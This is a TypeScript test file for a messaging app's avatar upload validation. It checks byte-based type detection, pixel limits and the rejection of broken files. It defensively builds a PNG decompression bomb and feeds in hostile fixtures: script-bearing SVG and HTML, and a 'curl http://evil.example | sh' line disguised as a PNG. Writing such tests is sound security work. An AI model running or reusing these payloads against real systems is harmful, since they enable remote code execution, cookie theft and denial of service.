import { readdir } from 'node:fs/promises';
import { crc32, deflateSync } from 'node:zlib';
import type { Me, MyGroup } from '@teltlk/protocol';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  createTestApp,
  dialects,
  expectError,
  type RegisteredUser,
  type TestApp,
} from '../../test/harness.js';
import { MAX_IMAGE_PIXELS } from './images.js';

/** A multipart/form-data body with one file part, built by hand so tests control every byte. */
function multipart(filename: string, contentType: string, data: Buffer) {
  const boundary = '----teltlk-image-boundary';
  const payload = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\n` +
        `Content-Type: ${contentType}\r\n\r\n`,
    ),
    data,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/**
 * A valid black PNG of any size at one bit a pixel, which deflates to almost nothing:
 * 20000×20000 (400 MP, 50 MB of rows) is about 50 KB. The decompression bomb.
 */
function blackPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function picture(width = 120, height = 80): sharp.Sharp {
  return sharp({ create: { width, height, channels: 3, background: { r: 30, g: 160, b: 90 } } });
}

/** Every file under a folder, relative paths. */
async function filesUnder(root: string): Promise<string[]> {
  try {
    const entries = await readdir(root, { recursive: true, withFileTypes: true });
    return entries.filter((entry) => entry.isFile()).map((entry) => entry.name);
  } catch {
    return [];
  }
}

const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">' +
    '<script>alert(document.cookie)</script><rect width="64" height="64" fill="red"/></svg>',
);

describe.each(dialects)('uploaded images on $dialect', ({ dialect }) => {
  let t: TestApp;
  let user: RegisteredUser;
  beforeEach(async () => {
    t = await createTestApp({ dialect });
    user = await t.register();
  });
  afterEach(async () => {
    await t.close();
  });

  const uploadAvatar = (filename: string, contentType: string, data: Buffer) =>
    t.app.inject({
      method: 'POST',
      url: '/api/v1/me/avatar',
      ...withAuth(multipart(filename, contentType, data)),
    });
  const withAuth = ({ payload, headers }: ReturnType<typeof multipart>) => ({
    payload,
    headers: { ...headers, authorization: `Bearer ${user.token}` },
  });
  const stored = () => filesUnder(`${t.dataDir}/files`);

  it('takes JPEG, PNG, WebP and GIF, by their bytes, up to the pixel limit', async () => {
    const accepted: [string, Buffer][] = [
      ['photo.jpg', await picture().jpeg().toBuffer()],
      ['shot.png', await picture().png().toBuffer()],
      ['sticker.webp', await picture().webp().toBuffer()],
      ['wave.gif', await picture().gif().toBuffer()],
      // A type the client got wrong does not matter: the bytes decide.
      ['photo.bin', await picture().jpeg().toBuffer()],
      // Exactly at the limit: 4000×4000 = 16 MP.
      ['edge.png', blackPng(4000, MAX_IMAGE_PIXELS / 4000)],
    ];
    for (const [name, data] of accepted) {
      const response = await uploadAvatar(name, 'application/octet-stream', data);
      expect(response.statusCode, `${name}: ${response.body}`).toBe(200);
      const served = await t.call('GET', response.json<Me>().avatarUrl ?? '');
      expect((await sharp(served.rawPayload).metadata()).format).toBe('webp');
    }
    // Each upload replaced the one before.
    expect(await stored()).toHaveLength(1);
  });

  it('refuses every other kind, whatever it is called, and writes nothing', async () => {
    const refused: [string, string, Buffer][] = [
      ['logo.svg', 'image/svg+xml', SVG],
      ['logo.png', 'image/png', SVG],
      [
        'page.png',
        'image/png',
        Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'),
      ],
      ['run.png', 'image/png', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')],
      ['scan.png', 'image/png', await picture().tiff().toBuffer()],
      ['photo.png', 'image/png', await picture().avif().toBuffer()],
      ['short.png', 'image/png', (await picture().png().toBuffer()).subarray(0, 4)],
      ['empty.png', 'image/png', Buffer.alloc(0)],
    ];
    for (const [name, type, data] of refused) {
      expectError(await uploadAvatar(name, type, data), 'IMAGE_TYPE_UNSUPPORTED');
    }
    expect(await stored()).toEqual([]);
    expect((await t.call('GET', '/api/v1/me', { token: user.token })).json<Me>().avatarUrl).toBe(
      null,
    );
  });

  it('refuses a truncated or broken image of an accepted kind', async () => {
    const png = await picture(400, 400).png({ compressionLevel: 0 }).toBuffer();
    const jpeg = await picture(400, 400).jpeg().toBuffer();
    for (const data of [
      png.subarray(0, 40),
      png.subarray(0, png.length / 2),
      jpeg.subarray(0, 200),
      jpeg.subarray(0, jpeg.length - 100),
    ]) {
      expectError(await uploadAvatar('broken.png', 'image/png', data), 'IMAGE_INVALID');
    }
    expect(await stored()).toEqual([]);
  });

  it('refuses images over the pixel limit from their header, decompression bombs included', async () => {
    const bomb = blackPng(20_000, 20_000);
    expect(bomb.length).toBeLessThan(100_000);
    for (const data of [
      bomb,
      // Under the old 50 MP limit, over the new one.
      blackPng(6000, 6000),
      blackPng(4001, 4000),
      // The header alone decides: the pixel data here would not even decode.
      Buffer.concat([
        bomb.subarray(0, 33),
        pngChunk('IDAT', Buffer.alloc(100, 0x55)),
        pngChunk('IEND', Buffer.alloc(0)),
      ]),
    ]) {
      const error = expectError(
        await uploadAvatar('big.png', 'image/png', data),
        'IMAGE_TOO_LARGE',
      );
      expect(error.params).toEqual({ megapixels: 16 });
      expect(error.message).toBe('This image is too large: at most 16 megapixels');
    }
    expect(await stored()).toEqual([]);
  });

  it('checks group avatars the same way', async () => {
    const friend = await t.register();
    const { contacts } = t.ctx.services;
    const auth = (u: RegisteredUser) => ({ userId: u.user.id, sessionId: 'test' });
    const request = await contacts.sendRequest(auth(user), { userId: friend.user.id });
    await contacts.acceptRequest(auth(friend), request.id);
    const group = (
      await t.call('POST', '/api/v1/groups', {
        token: user.token,
        body: { memberIds: [friend.user.id] },
      })
    ).json<MyGroup>();
    const upload = (data: Buffer) =>
      t.app.inject({
        method: 'POST',
        url: `/api/v1/groups/${group.id}/avatar`,
        ...withAuth(multipart('g.png', 'image/png', data)),
      });

    expectError(await upload(SVG), 'IMAGE_TYPE_UNSUPPORTED');
    expectError(await upload(blackPng(20_000, 20_000)), 'IMAGE_TOO_LARGE');
    expect(await stored()).toEqual([]);
    const response = await upload(await picture().gif().toBuffer());
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json<MyGroup>().avatarUrl).toMatch(/^\/files\/group-avatars\/\w+\.webp$/);
  });
});
